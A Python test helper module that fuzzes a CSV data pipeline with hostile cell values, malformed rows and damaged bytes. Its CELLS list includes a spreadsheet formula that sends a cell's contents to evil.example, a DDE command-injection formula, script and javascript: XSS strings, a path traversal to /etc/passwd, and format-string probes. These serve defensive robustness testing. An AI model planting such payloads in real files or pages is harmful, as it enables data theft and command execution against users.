"""Hostile cells and byte-level damage, shared by the parts."""

from __future__ import annotations

import csv
import io
import random

# Cells that broke, or could break, a reader: formulas, numbers at and past every limit, the
# spellings of "missing", markup, control characters, and text no spreadsheet writes.
CELLS = (
    "", " ", "  \t ", "=1+1", "\t=1+2", "\r=1+2", "+1", "-1", "@SUM(A1)", "-", "--", "+",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0",
    "0", "-0", "00012", "1e20", "1e308", "1e400", "-1e400", "inf", "-inf", "Infinity", "nan",
    "NaN", "NULL", "None", "N/A", "#N/A", "..", "1,5", "1.234.567", "1,234,567.5", "1 234",
    "(5)", "٣", "１２", "½", "9" * 30, "9" * 400, "0x1F", "1_000", "2020", "1899", "2101",
    "99999", "-2020", "2020.5", "2020-02-30", "2020-13", "0000-00-00", "9999-12-31",
    "true", "TRUE", "yes", "2", "3.14159265358979", "<a href=\"https://evil.example/\">Kano</a>",
    "<b>bold</b>", "&lt;b&gt;", "<script>alert(1)</script>", '"', "'", '""', "a\"b", ",", ";",
    "\n", "\r\n", "a\nb", "\x00", "a\x00b", "\x1b[31m", "\u202eevil", "\ufeff", "\ufeffx",
    "\u00a0", "😀", "Ciudad de México", "Bogotá, D.C.", "São Paulo", "Île-de-France",
    "../../etc/passwd", "{value}", "{0}", "%s%n", "%(x)s", "{{", "}", "\\", "COL", "col",
    "ZZZ", "XKX", "cali", "alpha", "Álpha", "beta", "unknown-city", "police", "homicide-rate",
    "CC BY 4.0", "https://example.org", "javascript:alert(1)", "http://", "planned",
)  # fmt: skip


def cell(rng: random.Random) -> str:
    """A hostile cell, now and then a very long one."""
    roll = rng.random()
    if roll < 0.02:
        return rng.choice("ab=\"';\n") * rng.choice((32_768, 131_073, 200_000))
    if roll < 0.06:
        return "".join(chr(rng.randrange(1, 0x2FFF)) for _ in range(rng.randrange(1, 40)))
    return rng.choice(CELLS)


def rows(data: bytes) -> list[list[str]]:
    """A CSV's rows (UTF-8 assumed; damage is done after)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def to_bytes(table: list[list[str]], delimiter: str = ",", newline: str = "\n") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(table)
    return out.getvalue().encode("utf-8", errors="surrogatepass")


def mutate_table(rng: random.Random, table: list[list[str]], keep_header: bool = False) -> None:
    """Change a table's cells, rows or columns in place, one to a few times."""
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        body = len(table) - 1
        choice = rng.random()
        if choice < 0.45 and body > 0:  # a hostile cell
            row = table[rng.randrange(1, len(table))]
            if row:
                row[rng.randrange(len(row))] = cell(rng)
        elif choice < 0.55 and body > 0:  # a whole column of one hostile value
            column = rng.randrange(len(table[0]) or 1)
            value = cell(rng)
            for row in table[1:]:
                if column < len(row):
                    row[column] = value
        elif choice < 0.62 and body > 0:  # a repeated row (a repeated key)
            table.append(list(table[rng.randrange(1, len(table))]))
        elif choice < 0.67 and body > 0:  # a row too long, or too short
            row = table[rng.randrange(1, len(table))]
            if rng.random() < 0.5:
                row.extend(cell(rng) for _ in range(rng.randrange(1, 4)))
            elif row:
                del row[rng.randrange(len(row)) :]
        elif choice < 0.72 and not keep_header and table:  # a header renamed or repeated
            header = table[0]
            if header:
                i = rng.randrange(len(header))
                header[i] = rng.choice((cell(rng), header[i - 1], header[i].upper(), ""))
        elif choice < 0.76 and not keep_header and table and table[0]:  # a column gone
            i = rng.randrange(len(table[0]))
            for row in table:
                if i < len(row):
                    del row[i]
        elif choice < 0.80 and not keep_header and table:  # a column too many
            for n, row in enumerate(table):
                row.append("extra" if n == 0 else cell(rng))
        elif choice < 0.84:  # only the header left
            del table[1:]
        elif choice < 0.88 and body > 0:  # rows gone
            del table[rng.randrange(1, len(table)) :]
        elif choice < 0.94:  # many rows (a few thousand at most: the suite must stay fast)
            if body > 0:
                table.extend(list(table[rng.randrange(1, len(table))]) for _ in range(2000))
        elif body > 0:  # blank rows in the middle
            table.insert(rng.randrange(1, len(table)), [])


ENCODINGS = ("utf-8", "utf-8", "utf-8", "cp1252", "latin-1", "utf-16", "utf-8-sig", "mac_roman")


def damage_bytes(rng: random.Random, data: bytes) -> bytes:
    """Damage a file as a careless tool or a hostile sender would."""
    choice = rng.random()
    if choice < 0.15:  # another encoding
        encoding = rng.choice(ENCODINGS)
        return data.decode("utf-8", errors="replace").encode(encoding, errors="replace")
    if choice < 0.25:  # CR or CRLF line endings, or a mix
        ending = rng.choice((b"\r", b"\r\n"))
        if rng.random() < 0.7:
            return data.replace(b"\n", ending)
        lines = data.split(b"\n")
        return b"".join(line + rng.choice((b"\n", ending)) for line in lines)
    if choice < 0.33:  # byte-order marks, one or more, or a UTF-16 one
        return rng.choice((b"\xef\xbb\xbf" * rng.randrange(1, 4), b"\xff\xfe", b"\xfe\xff")) + data
    if choice < 0.43 and data:  # random bytes somewhere
        at = rng.randrange(len(data))
        junk = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 8)))
        return data[:at] + junk + data[at:]
    if choice < 0.50 and data:  # cut short
        return data[: rng.randrange(len(data))]
    if choice < 0.55:  # nothing, or only blanks
        return rng.choice((b"", b"\n\n", b"   ", b"\xef\xbb\xbf", b"\x00" * 64))
    if choice < 0.60:  # not text at all
        return bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4096)))
    if choice < 0.64 and data:  # an unbalanced quote
        at = rng.randrange(len(data))
        return data[:at] + b'"' + data[at:]
    return data


def valid_value(rng: random.Random, kind: str, allowed: tuple[str, ...], ids: list[str]) -> str:
    """A value the build accepts for a column of this kind, chosen from its odd corners."""
    if kind == "id":
        return (
            rng.choice(ids)
            if ids and rng.random() < 0.7
            else rng.choice(("x", "a.b", "z-9", "0", "long-" + "x" * 60))
        )
    if kind in ("number", "integer"):
        return rng.choice(("0", "1", "2", "7", "150", "100000", "999999999", "12.5", "0.001"))
    if kind == "year":
        return str(rng.choice((1900, 1990, 2000, 2015, 2019, 2020, 2023, date_today().year)))
    if kind == "boolean":
        return rng.choice(("true", "false", "yes", "no", "1", "0", "TRUE"))
    if kind == "country":
        return rng.choice(("COL", "MEX", "KEN", "BEL", "NGA", "IND", "FRA", "ATA"))
    if kind == "date":
        return rng.choice(("2019", "2020-02", "2020-02-29", "1999-12-31", "2030", "2100-01"))
    if kind == "url":
        return rng.choice(
            ("https://example.org", "http://a.b/c?d=e&f=g", "https://x.y/" + "p" * 80)
        )
    if kind in ("choice", "list") and allowed:
        picked = rng.sample(allowed, rng.randrange(1, min(3, len(allowed)) + 1))
        return picked[0] if kind == "choice" else ";".join(picked)
    return rng.choice(  # text
        ("Bogotá, D.C.", "São Paulo", "Île", "N'Djamena", "Ōsaka", "東京", "Кано", "كانو", "x",
         "A & B", "<b>bold</b>", 'Quote "here"', "a" * 300, "😀", "Saint-Denis", "9 de Julio")
    )  # fmt: skip


def date_today() -> object:
    from datetime import date

    return date.today()


def gentle(
    rng: random.Random, table: list[list[str]], file: str, ids: dict[str, list[str]]
) -> None:
    """Change cells to odd values the build accepts, or add rows of them: what gets through
    validation reaches derive, the Parquet files and the app."""
    from data.schema import TABLES

    spec = TABLES[file.removesuffix(".csv")]
    header = table[0]
    columns = {c.name: c for c in spec.columns}
    for _ in range(rng.choice((1, 2, 3))):
        if rng.random() < 0.5 and len(table) > 1:
            row = table[rng.randrange(1, len(table))]
            i = rng.randrange(len(header))
            column = columns.get(header[i])
            if column is not None and column.name not in spec.key and i < len(row):
                target = (column.references or "").split(".")[0]
                row[i] = valid_value(rng, column.kind, column.allowed, ids.get(target, []))
        elif len(table) > 1:  # a new row: a copy with a fresh key
            row = list(table[rng.randrange(1, len(table))])
            for i, name in enumerate(header):
                if name in spec.key and i < len(row):
                    column = columns[name]
                    if column.kind == "year":
                        row[i] = str(rng.randrange(1950, 2025))
                    elif column.references is None and column.kind == "id":
                        row[i] = f"new-{rng.randrange(10**6)}"
            table.append(row)
